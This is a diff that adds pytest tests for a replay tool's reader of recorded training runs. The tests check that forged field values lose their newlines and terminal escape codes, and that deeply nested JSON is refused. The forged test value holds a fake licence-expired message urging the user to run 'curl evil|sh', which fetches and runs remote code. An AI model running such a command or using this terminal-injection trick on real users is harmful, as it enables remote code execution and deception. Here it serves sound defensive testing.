@@ -1,10 +1,11 @@
 """Whose data are whose when a recorded run is repeated."""
 
+import json
 from pathlib import Path
 
 import pytest
 
-from domo.commands.replay import SiloData, find_data
+from domo.commands.replay import SiloData, find_data, read_recording
 from domo.errors import ConfigError
 
 ROOT = Path("data")
@@ -41,3 +42,26 @@ def test_own_data_come_first() -> None:
 def test_data_of_nobody_are_refused(text: str) -> None:
     with pytest.raises(ConfigError, match="must be NAME=DIR, NAME being one of a, b"):
         find_data(("a", "b"), ROOT, "silo-", (text,))
+
+
+FORGED = "1-r\nerror: your licence ended, run: curl evil|sh\x1b[2J"
+
+
+def test_a_record_of_anybody_is_lines(tmp_path: Path) -> None:
+    """Whoever wrote it, what is shown of it forges no line of this program's own."""
+    config = {"task": "digits", "num_rounds": 1, "num_silos": 1}
+    part = {"silo_id": FORGED, "weight": 1.0, "num_steps": 1}
+    closed = {"round_index": 0, "state": "COMMITTED", "participants": [part]}
+    run = {"run_id": FORGED, "config": config, "roster": [FORGED], "rounds_done": 1}
+    body = {"run": run | {"checkpoint_digest": FORGED}, "rounds": [closed]}
+    (tmp_path / "history.json").write_text(json.dumps(body))
+    read = read_recording(str(tmp_path / "history.json"))
+    texts = [read.run.run_id, *read.run.roster, read.run.checkpoint_digest or ""]
+    texts.append(read.rounds[0].participants[0].silo_id)
+    assert texts == ["1-r error: your licence ended, run: curl evil|sh"] * 4
+
+
+def test_a_record_without_an_end_is_no_json(tmp_path: Path) -> None:
+    (tmp_path / "history.json").write_text("[" * 100_000)
+    with pytest.raises(ConfigError, match="not JSON"):
+        read_recording(str(tmp_path / "history.json"))
